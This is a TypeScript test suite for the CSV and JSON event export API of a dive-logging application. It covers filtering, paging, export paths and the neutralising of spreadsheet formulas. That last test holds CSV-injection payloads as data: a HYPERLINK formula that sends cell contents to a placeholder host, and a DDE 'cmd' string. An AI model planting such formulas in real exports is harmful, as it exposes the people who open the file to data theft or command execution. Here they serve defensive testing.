import { mkdtempSync, rmSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { sql } from 'kysely';
import { migrateToLatest, openDatabase } from '../../db/database.js';
import { eventsToCsv, newObjectId, type CsvEvent } from '@bathylog/shared';
import { createTestApp, engines, type TestApp } from '../../../test/test-app.js';
import { createRoleUsers, type RoleUsers } from '../../../test/role-tokens.js';
import {
  insertAux,
  insertCruise,
  insertEvents,
  insertLowering,
  loadDemoLowering,
  type DemoLowering,
} from '../../../test/table-fixtures.js';
import { parseCsv } from '../../../test/parse-csv.js';

type Json = Record<string, unknown>;

describe.each(engines)('event exports API on %s', (engine) => {
  let t: TestApp;
  let users: RoleUsers;
  let admin: string;
  let demo: DemoLowering;

  beforeAll(async () => {
    t = await createTestApp(engine);
    users = await createRoleUsers(t);
    admin = users.tokens.admin!;
    demo = await loadDemoLowering(t.ctx.database.db);
  });
  afterAll(() => t?.close());

  const get = (url: string, token: string | undefined = admin) => t.api('GET', url, { token });

  it('exports the demo lowering S0492 as JSON: every event, oldest first, with its aux data and no aux ids', async () => {
    const res = await get(`/event_exports/bylowering/${demo.loweringId}?add_record_ids=true`);
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('application/json; charset=utf-8');
    const events = res.json() as Json[];
    expect(events).toHaveLength(4540);
    expect(events.map((e) => e.id)).toEqual(demo.events.map((e) => e.id));
    const first = demo.events[0]!;
    expect(events[0]).toEqual({
      id: first.id,
      ts: '2023-03-14T22:15:39.479Z',
      event_author: 'mt',
      event_value: 'VEHICLE',
      event_options: [{ event_option_name: 'milestone', event_option_value: 'Off deck' }],
      event_free_text: '',
      lowering_id: 'S0492',
      aux_data: [
        {
          data_source: 'vehicleRealtimeNavData',
          data_array: [
            { data_name: 'latitude', data_value: '23.550000', data_uom: 'ddeg' },
            { data_name: 'longitude', data_value: '-45.140000', data_uom: 'ddeg' },
            { data_name: 'depth', data_value: '1000.00', data_uom: 'meters' },
            { data_name: 'heading', data_value: '0', data_uom: 'deg' },
          ],
        },
      ],
    });
    const sample = events.find((e) => e.event_value === 'SAMPLE')!;
    expect((sample.aux_data as Json[]).map((a) => a.data_source)).toEqual(['vehicleRealtimeNavData', 'framegrabber']);
    expect(events.reduce((n, e) => n + (e.aux_data as unknown[]).length, 0)).toBe(demo.auxCount);
  });

  it('exports the demo lowering as CSV: the Sealog header order with lowering_id at position 2, one line per event', async () => {
    const res = await get(`/event_exports/bylowering/${demo.loweringId}?format=csv&add_record_ids=true`);
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.body.endsWith('\n')).toBe(false);
    const lines = res.body.split('\n');
    expect(lines).toHaveLength(4541);
    const rows = parseCsv(res.body);
    const header = rows[0]!;
    expect(header.slice(0, 6)).toEqual(['id', 'ts', 'lowering_id', 'event_value', 'event_author', 'event_free_text']);
    const options = header.filter((c) => c.startsWith('event_option.'));
    expect(options).toEqual([...options].sort());
    expect(header.indexOf(options.at(-1)!)).toBeLessThan(header.indexOf('framegrabber.camera_name_2_uom'));
    expect(header.slice(-12)).toEqual([
      'framegrabber.filename_2_uom',
      'framegrabber.filename_2_value',
      'framegrabber.filename_uom',
      'framegrabber.filename_value',
      'vehicleRealtimeNavData.depth_uom',
      'vehicleRealtimeNavData.depth_value',
      'vehicleRealtimeNavData.heading_uom',
      'vehicleRealtimeNavData.heading_value',
      'vehicleRealtimeNavData.latitude_uom',
      'vehicleRealtimeNavData.latitude_value',
      'vehicleRealtimeNavData.longitude_uom',
      'vehicleRealtimeNavData.longitude_value',
    ]);
    expect(rows.every((r) => r.length === header.length)).toBe(true);
    const cell = (row: string[], column: string) => row[header.indexOf(column)];
    const first = rows[1]!;
    expect([
      cell(first, 'id'),
      cell(first, 'lowering_id'),
      cell(first, 'event_option.milestone'),
      cell(first, 'vehicleRealtimeNavData.depth_value'),
    ]).toEqual([demo.events[0]!.id, 'S0492', 'Off deck', '1000.00']);
    // Every line break of free text is written as \n, so multi-line notes stay on their line.
    const multiLine = demo.events.findIndex((e) => (e.event_free_text ?? '').includes('\n'));
    if (multiLine >= 0)
      expect(cell(rows[multiLine + 1]!, 'event_free_text')).toBe(
        demo.events[multiLine]!.event_free_text!.replace(/\r\n|\r|\n/g, '\\n'),
      );
  });

  it('filters like the events routes; datasource is an exact source and keeps every aux source of the kept events', async () => {
    const noAsnap = (await get(`/event_exports/bylowering/${demo.loweringId}?value=!ASNAP`)).json() as Json[];
    expect(noAsnap).toHaveLength(4540 - 3701);
    const framed = (await get(`/event_exports/bylowering/${demo.loweringId}?datasource=framegrabber`)).json() as Json[];
    expect(framed.map((e) => e.event_value).sort()).toEqual(
      demo.events
        .filter((e) => e.event_value === 'SAMPLE' || e.event_value === 'FRAMEGRAB')
        .map((e) => e.event_value)
        .sort(),
    );
    expect((framed[0]!.aux_data as Json[]).map((a) => a.data_source)).toEqual([
      'vehicleRealtimeNavData',
      'framegrabber',
    ]);
    expect((await get(`/event_exports/bylowering/${demo.loweringId}?datasource=frame`)).statusCode).toBe(404);
    const csv = await get(`/event_exports/bylowering/${demo.loweringId}?datasource=framegrabber&format=csv`);
    expect(csv.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(csv.body.split('\n')).toHaveLength(framed.length + 1);
    const fulltext = (await get(`/event_exports/bylowering/${demo.loweringId}?fulltext=basalt`)).json() as Json[];
    expect(fulltext.length).toBeGreaterThan(0);
    expect(
      fulltext.every((e) =>
        JSON.stringify([e.event_value, e.event_free_text, e.event_options, e.event_author])
          .toLowerCase()
          .includes('basalt'),
      ),
    ).toBe(true);
  });

  it('CSV of a whole match (columns named by the database, rows read once) equals the CSV read twice', async () => {
    const db = t.ctx.database.db;
    const start = Date.UTC(2031, 0, 1);
    const cruise = await insertCruise(db, { start_ts: start, stop_ts: start + 3_600_000 });
    const [plain, repeated, dotted, lonely] = await insertEvents(db, [
      { ts: start + 1000, event_value: 'PLAIN', event_free_text: 'two\nlines, "quoted"' },
      {
        ts: start + 2000,
        event_value: 'REPEATED',
        event_options: [
          { event_option_name: 'type', event_option_value: 'a' },
          { event_option_name: 'type', event_option_value: 'b' },
          { event_option_name: 'type_2', event_option_value: 'c' },
        ],
      },
      {
        ts: start + 3000,
        event_value: 'DOTTED',
        event_options: [{ event_option_name: 'zeta', event_option_value: '1' }],
      },
      { ts: start + 4000, event_value: 'NO AUX' },
    ]);
    await insertAux(db, [
      { event_id: plain!, data_source: 'nav', data_array: [{ data_name: 'depth', data_value: 12.5, data_uom: 'm' }] },
      {
        event_id: repeated!,
        data_source: 'cam',
        data_array: [
          { data_name: 'file', data_value: 'a.jpg' },
          { data_name: 'file', data_value: 'b.jpg' },
        ],
      },
      { event_id: dotted!, data_source: 'a.b', data_array: [{ data_name: 'c', data_value: 1 }] },
      { event_id: dotted!, data_source: 'a', data_array: [{ data_name: 'b.c', data_value: 2 }] },
    ]);
    expect(lonely).toBeDefined();
    const once = await get(`/event_exports/bycruise/${cruise}?format=csv`);
    const twice = await get(`/event_exports/bycruise/${cruise}?format=csv&limit=100000`);
    expect(once.statusCode).toBe(200);
    expect(once.body).toBe(twice.body);
    expect(parseCsv(once.body)[0]).toEqual([
      'id',
      'ts',
      'event_value',
      'event_author',
      'event_free_text',
      'event_option.type',
      'event_option.type_2',
      'event_option.type_2_2',
      'event_option.zeta',
      'a.b.c_2_uom',
      'a.b.c_2_value',
      'a.b.c_uom',
      'a.b.c_value',
      'cam.file_2_uom',
      'cam.file_2_value',
      'cam.file_uom',
      'cam.file_value',
      'nav.depth_uom',
      'nav.depth_value',
    ]);
    expect(once.body.split('\n')).toHaveLength(5);
    // With record ids: the cruise column is there (every event is in the cruise), no lowering column.
    const withIds = await get(`/event_exports/bycruise/${cruise}?format=csv&add_record_ids=true`);
    expect(withIds.body).toBe(
      (await get(`/event_exports/bycruise/${cruise}?format=csv&add_record_ids=true&limit=9999`)).body,
    );
    expect(parseCsv(withIds.body)[0]!.slice(0, 3)).toEqual(['id', 'cruise_id', 'ts']);
    expect(parseCsv(withIds.body)[0]).not.toContain('lowering_id');
    const filtered = await get(`/event_exports/bycruise/${cruise}?format=csv&value=PLAIN`);
    expect(parseCsv(filtered.body)[0]).toEqual([
      'id',
      'ts',
      'event_value',
      'event_author',
      'event_free_text',
      'nav.depth_uom',
      'nav.depth_value',
    ]);
    const none = await get(`/event_exports/bycruise/${cruise}?format=csv&value=NOTHING`);
    expect(none.statusCode).toBe(404);
  });

  it('CSV never hands a spreadsheet a formula: such text starts with a quote, numbers stay as they are', async () => {
    const db = t.ctx.database.db;
    const start = Date.UTC(2034, 0, 1);
    const cruise = await insertCruise(db, { start_ts: start, stop_ts: start + 3_600_000 });
    const [formula, plain] = await insertEvents(db, [
      {
        ts: start + 1000,
        event_value: '=HYPERLINK("http://x.test/?"&A1,"click")',
        event_author: '@SUM(1+1)',
        event_free_text: "+cmd|' /C calc'!A0",
        event_options: [
          { event_option_name: 'depth', event_option_value: '-12.5' },
          { event_option_name: 'note', event_option_value: '-2+3' },
        ],
      },
      { ts: start + 2000, event_value: 'PLAIN', event_free_text: '\tindented' },
    ]);
    await insertAux(db, [
      {
        event_id: formula!,
        data_source: '=src',
        data_array: [
          { data_name: 'n', data_value: -3, data_uom: '-1e3' },
          { data_name: 't', data_value: '\r=1+1', data_uom: 'm' },
        ],
      },
      {
        event_id: plain!,
        data_source: 'nav',
        data_array: [{ data_name: 'depth', data_value: '-1e3', data_uom: '=m' }],
      },
    ]);
    const expected = [
      {
        id: formula,
        event_value: `'=HYPERLINK("http://x.test/?"&A1,"click")`,
        event_author: "'@SUM(1+1)",
        event_free_text: `'+cmd|' /C calc'!A0`,
        'event_option.depth': '-12.5',
        'event_option.note': "'-2+3",
        "'=src.n_value": '-3',
        "'=src.n_uom": '-1e3',
        // A carriage return is written as \n in text columns, so nothing starts with it.
        "'=src.t_value": '\\n=1+1',
        "'=src.t_uom": 'm',
      },
      {
        id: plain,
        event_value: 'PLAIN',
        event_free_text: "'\tindented",
        'nav.depth_value': '-1e3',
        'nav.depth_uom': "'=m",
      },
    ];
    const rowsOf = (body: string) => {
      const [header, ...rows] = parseCsv(body);
      return rows.map((r) => Object.fromEntries(header!.map((h, i) => [h, r[i]])));
    };
    // The database-written export (one read), the row-by-row one, and the events routes' CSV.
    for (const url of [
      `/event_exports/bycruise/${cruise}?format=csv`,
      `/event_exports/bycruise/${cruise}?format=csv&limit=100`,
      `/events/bycruise/${cruise}?format=csv`,
    ]) {
      const res = await get(url);
      expect(res.statusCode, url).toBe(200);
      const rows = rowsOf(res.body);
      for (const [i, want] of expected.entries()) {
        const shown = url.startsWith('/events/')
          ? Object.fromEntries(Object.entries(want).filter(([k]) => !k.includes('src') && !k.startsWith('nav')))
          : want;
        expect(rows[i], url).toMatchObject(shown);
      }
    }
    const one = rowsOf((await get(`/event_exports/${formula}?format=csv`)).body);
    expect(one[0]).toMatchObject(expected[0]!);
  });

  it('the database-written export (JSON, and CSV with its header from the stored shapes) equals the row-by-row one, byte for byte', async () => {
    const db = t.ctx.database.db;
    const start = Date.UTC(2032, 0, 1);
    const cruise = await insertCruise(db, { cruise_id: 'C "1"', start_ts: start, stop_ts: start + 3_600_000 });
    // Events whose stored texts the database does not embed as is: in a cruise of their own.
    const dirty = await insertCruise(db, { start_ts: start + 3_600_001, stop_ts: start + 5_000_000 });
    // A lowering within the cruise: record ids change inside one chunk.
    await insertLowering(db, {
      lowering_id: 'L\n1',
      start_ts: start + 2500,
      stop_ts: start + 5500,
    });
    // Every UTF-16 character but NUL (which PostgreSQL cannot store) and lone surrogates, so the
    // databases' JSON quoting is checked against JSON.stringify's.
    let all = '';
    for (let c = 1; c < 0x10000; c++) if (c < 0xd800 || c > 0xdfff) all += String.fromCharCode(c);
    const ids = await insertEvents(db, [
      {
        ts: start + 1000,
        event_value: 'PLAIN',
        event_author: 'a "b"',
        event_free_text: 'one\r\ntwo\rthree\nfour, "q" 😀',
      },
      {
        ts: start + 2000,
        event_value: 'OPTS',
        event_options: [
          { event_option_name: 'kind', event_option_value: 'x\ny' },
          { event_option_name: 'kind', event_option_value: '' },
          { event_option_name: 'ünï "ç"', event_option_value: '\u2028\u0007' },
        ],
      },
      { ts: start + 3000, event_value: 'ALL', event_free_text: all.slice(0, 3000) },
      { ts: start + 3000, event_value: 'ALL2', event_free_text: all.slice(3000) },
      { ts: start + 4000, event_value: 'NO AUX' },
      { ts: start + 4_000_000, event_value: 'DIRTY OPTIONS' },
      { ts: start + 4_000_001, event_value: 'DIRTY AUX' },
      { ts: start + 1_000_000, event_value: 'NUMBERS' },
    ]);
    await insertAux(db, [
      {
        event_id: ids[0]!,
        data_source: 'nav "x"',
        data_array: [
          { data_name: 'depth', data_value: 12.5, data_uom: 'm' },
          { data_name: 'ok', data_value: 0 },
          { data_name: 'depth', data_value: '1e3', data_uom: 'm\nm' },
        ],
      },
      { event_id: ids[0]!, data_source: 'cam', data_array: [] },
      { event_id: ids[1]!, data_source: 'cam', data_array: [{ data_name: 'file', data_value: 'a.jpg' }] },
      { event_id: ids[6]!, data_source: 'nav "x"', data_array: [{ data_name: 'depth', data_value: 1 }] },
      {
        event_id: ids[7]!,
        data_source: 'ctd',
        data_array: [
          { data_name: 't', data_value: 0.1 + 0.2, data_uom: 'C' },
          { data_name: 'big', data_value: 1e21 },
          { data_name: 'neg', data_value: -0.000001 },
        ],
      },
    ]);
    // Stored texts the app never writes: each falls back as before (options text not a bare array,
    // aux data that is not JSON).
    await sql`UPDATE events SET event_options = ${' [{"event_option_name":"pad","event_option_value":"v"}] '} WHERE id = ${ids[5]!}`.execute(
      db,
    );
    // (PostgreSQL's shape trigger refuses text that is not JSON: there, JSON with spaces around it.)
    const dirtyAux = engine === 'sqlite' ? '[not json' : ' [{"data_name":"depth","data_value":1}]\n';
    await sql`UPDATE event_aux_data SET data_array = ${dirtyAux} WHERE event_id = ${ids[6]!}`.execute(db);

    const both = async (query: string, record = cruise) => {
      // limit=1000 is a page: read row by row as before; without it, the fast path.
      const fast = await get(`/event_exports/bycruise/${record}?${query}`);
      const slow = await get(`/event_exports/bycruise/${record}?${query}&limit=1000`);
      expect(fast.statusCode).toBe(200);
      expect(slow.statusCode).toBe(200);
      expect(fast.body).toBe(slow.body);
      return fast.body;
    };
    for (const record of [cruise, dirty])
      for (const ids of ['', 'add_record_ids=true&']) {
        const json = await both(`${ids}format=json`, record);
        const csv = await both(`${ids}format=csv`, record);
        // The CSV equals the one the shared code makes of the JSON export's events in memory.
        expect(csv).toBe(eventsToCsv(JSON.parse(json) as CsvEvent[]));
      }
    const json = JSON.parse(await both('add_record_ids=true')) as Json[];
    expect(json).toHaveLength(6);
    expect(json[2]).toMatchObject({ event_free_text: all.slice(0, 3000), cruise_id: 'C "1"', lowering_id: 'L\n1' });
    expect(json[5]).not.toHaveProperty('lowering_id');
    const fallen = JSON.parse(await both('format=json', dirty)) as Json[];
    expect(fallen[0]!.event_options).toEqual([{ event_option_name: 'pad', event_option_value: 'v' }]);
    expect(fallen[1]!.aux_data).toEqual([
      { data_source: 'nav "x"', data_array: engine === 'sqlite' ? [] : [{ data_name: 'depth', data_value: 1 }] },
    ]);

    // The stored shapes follow writes: an option renamed, an aux record removed, an event moved out.
    await sql`UPDATE events SET event_options = ${JSON.stringify([{ event_option_name: 'renamed', event_option_value: '1' }])} WHERE id = ${ids[1]!}`.execute(
      db,
    );
    await sql`DELETE FROM event_aux_data WHERE event_id = ${ids[7]!}`.execute(db);
    await sql`UPDATE events SET ts = ${start + 7_200_000} WHERE id = ${ids[0]!}`.execute(db);
    const header = parseCsv(await both('format=csv&add_record_ids=true'))[0]!;
    expect(header).toContain('event_option.renamed');
    expect(header).not.toContain('event_option.kind');
    expect(header.some((c) => c.startsWith('ctd.') || c.startsWith('nav "x".depth_2'))).toBe(false);
    expect(header.slice(0, 4)).toEqual(['id', 'cruise_id', 'lowering_id', 'ts']);
    // Back in the window through an update of its time: its columns come back.
    await sql`UPDATE events SET ts = ${start + 1000} WHERE id = ${ids[0]!}`.execute(db);
    expect(parseCsv(await both('format=csv'))[0]).toContain('nav "x".depth_2_value');
    // Filters the database answers alone keep the fast path, and agree too.
    await both('format=csv&value=OPTS');
    await both('format=json&value=!ALL&offset=1');
    expect((await get(`/event_exports/bycruise/${cruise}?format=csv&value=NOTHING`)).statusCode).toBe(404);
    expect((await get(`/event_exports/bycruise/${cruise}?format=json&value=NOTHING`)).statusCode).toBe(404);
  });

  it('pages offset first, then limit (Sealog applied the limit first); no row cap', async () => {
    const page = (await get(`/event_exports/bylowering/${demo.loweringId}?offset=2&limit=3`)).json() as Json[];
    expect(page.map((e) => e.id)).toEqual(demo.events.slice(2, 5).map((e) => e.id));
    const tail = (await get(`/event_exports/bylowering/${demo.loweringId}?offset=4000&limit=2000`)).json() as Json[];
    expect(tail.map((e) => e.id)).toEqual(demo.events.slice(4000).map((e) => e.id));
  });

  it('exports one event with its aux data as JSON or a one-row CSV; 404 No records found when missing', async () => {
    const sample = demo.events.find((e) => e.event_value === 'SAMPLE')!;
    const json = (await get(`/event_exports/${sample.id}`)).json() as Json;
    expect(json).toMatchObject({ id: sample.id, event_value: 'SAMPLE' });
    expect((json.aux_data as Json[]).map((a) => a.data_source)).toEqual(['vehicleRealtimeNavData', 'framegrabber']);
    const csv = parseCsv((await get(`/event_exports/${sample.id}?format=csv&add_record_ids=true`)).body);
    expect(csv).toHaveLength(2);
    expect(csv[0]!.slice(0, 3)).toEqual(['id', 'ts', 'lowering_id']);
    expect(csv[1]![csv[0]!.indexOf('framegrabber.camera_name_2_value')]).toBe('Down Camera');
    expect((await get(`/event_exports/${newObjectId()}`)).json()).toEqual({
      statusCode: 404,
      error: 'Not Found',
      message: 'No records found',
    });
  });

  it('the global list covers 1970 up to now; bycruise uses the cruise window; not-found answers as Sealog', async () => {
    expect(((await get('/event_exports?limit=5')).json() as Json[]).map((e) => e.id)).toEqual(
      demo.events.slice(0, 5).map((e) => e.id),
    );
    expect((await get(`/event_exports?startTS=1678832139479&stopTS=2023-03-14T22:16:00Z`)).json()).toHaveLength(3);
    const cruise = await insertCruise(t.ctx.database.db, {
      cruise_id: 'FKt230303',
      start_ts: '2023-03-03T00:00:00Z',
      stop_ts: '2023-04-11T23:59:59Z',
    });
    const withIds = (await get(`/event_exports/bycruise/${cruise}?limit=1&add_record_ids=true`)).json() as Json[];
    expect(withIds[0]).toMatchObject({ cruise_id: 'FKt230303', lowering_id: 'S0492' });
    const csvHeader = (
      await get(`/event_exports/bycruise/${cruise}?limit=1&add_record_ids=true&format=csv`)
    ).body.split('\n')[0];
    expect(csvHeader!.startsWith('"id","cruise_id","lowering_id","ts","event_value"')).toBe(true);
    const missing = newObjectId();
    expect((await get(`/event_exports/bycruise/${missing}`)).json()).toEqual({
      statusCode: 404,
      error: 'Not Found',
      message: 'cruise not found for that id',
    });
    expect((await get(`/event_exports/bylowering/${missing}`)).json()).toEqual({
      statusCode: 404,
      error: 'Not Found',
      message: 'lowering not found for that id',
    });
    const empty = await insertLowering(t.ctx.database.db, {
      start_ts: '2030-01-01T00:00:00Z',
      stop_ts: '2030-01-02T00:00:00Z',
    });
    expect((await get(`/event_exports/bylowering/${empty}`)).json()).toEqual({
      statusCode: 404,
      error: 'Not Found',
      message: 'No records found',
    });
  });

  it('refuses sort and other unknown or bad query input; reads need read_events', async () => {
    expect((await get(`/event_exports/bylowering/${demo.loweringId}?sort=newest`)).json()).toEqual({
      statusCode: 400,
      error: 'Bad Request',
      message: '"sort" is not allowed',
    });
    expect((await get('/event_exports?startTS=never')).statusCode).toBe(400);
    expect((await get('/event_exports?limit=0')).statusCode).toBe(400);
    expect((await get('/event_exports/bylowering/xyz')).statusCode).toBe(400);
    expect((await get('/event_exports?limit=1', users.tokens.event_watcher)).statusCode).toBe(200);
    expect((await t.api('GET', '/event_exports?limit=1')).statusCode).toBe(401);
    expect((await get('/event_exports?limit=1', users.tokens.disabled)).statusCode).toBe(401);
  });
});

describe('event exports on a SQLite file: chunks read on the read thread', () => {
  let dir: string;
  let t: TestApp;
  let admin: string;
  let demo: DemoLowering;

  beforeAll(async () => {
    dir = mkdtempSync(path.join(os.tmpdir(), 'bathylog-export-thread-'));
    const database = openDatabase({ url: null, sqlitePath: path.join(dir, 'bathylog.sqlite') });
    await migrateToLatest(database);
    t = await createTestApp('sqlite', {}, database);
    admin = (await createRoleUsers(t)).tokens.admin!;
    demo = await loadDemoLowering(t.ctx.database.db);
  });
  afterAll(async () => {
    await t?.close();
    rmSync(dir, { recursive: true, force: true });
  });

  it('gives the same bytes as the main connection, also with stored text that does not parse', async () => {
    const reader = t.ctx.database.readWorker!;
    const reads = vi.spyOn(reader, 'read');
    const onMain = async (url: string) => {
      (t.ctx.database as { readWorker: unknown }).readWorker = null;
      try {
        return (await t.api('GET', url, { token: admin })).body;
      } finally {
        (t.ctx.database as { readWorker: unknown }).readWorker = reader;
      }
    };
    const url = (format: string) => `/event_exports/bylowering/${demo.loweringId}?format=${format}&add_record_ids=true`;
    const json = await t.api('GET', url('json'), { token: admin });
    expect(json.statusCode).toBe(200);
    // 4,540 events in chunks of 2,000: three reads on the thread.
    expect(reads).toHaveBeenCalledTimes(3);
    expect((json.json() as Json[]).map((e) => e.id)).toEqual(demo.events.map((e) => e.id));
    expect(await onMain(url('json'))).toBe(json.body);

    const csv = await t.api('GET', url('csv'), { token: admin });
    expect(csv.statusCode).toBe(200);
    expect(reads).toHaveBeenCalledTimes(6);
    expect(parseCsv(csv.body)).toHaveLength(4541);
    expect(await onMain(url('csv'))).toBe(csv.body);

    // A stored aux text the app never writes: that row is read the slow way, on both paths.
    const dirty = demo.events[2500]!.id;
    await sql`UPDATE event_aux_data SET data_array = ${'[not json'} WHERE event_id = ${dirty}`.execute(
      t.ctx.database.db,
    );
    const dirtyCsv = await t.api('GET', url('csv'), { token: admin });
    expect(dirtyCsv.statusCode).toBe(200);
    expect(dirtyCsv.body).not.toBe(csv.body);
    expect(await onMain(url('csv'))).toBe(dirtyCsv.body);
    const dirtyJson = await t.api('GET', url('json'), { token: admin });
    expect(dirtyJson.body).not.toBe(json.body);
    expect(await onMain(url('json'))).toBe(dirtyJson.body);
    expect(await onMain(`${url('csv')}&limit=1000&offset=2000`)).toBe(
      (await t.api('GET', `${url('csv')}&limit=1000&offset=2000`, { token: admin })).body,
    );
  });

  it('a read that fails on the thread fails the export, and the next export works', async () => {
    const reader = t.ctx.database.readWorker!;
    const url = `/event_exports/bylowering/${demo.loweringId}?format=json`;
    vi.spyOn(reader, 'read').mockRejectedValueOnce(new Error('disk I/O error'));
    const failed = await t.api('GET', url, { token: admin });
    expect(failed.statusCode).toBe(500);
    vi.restoreAllMocks();
    const ok = await t.api('GET', url, { token: admin });
    expect(ok.statusCode).toBe(200);
    expect((ok.json() as Json[]).length).toBe(4540);
  });
});
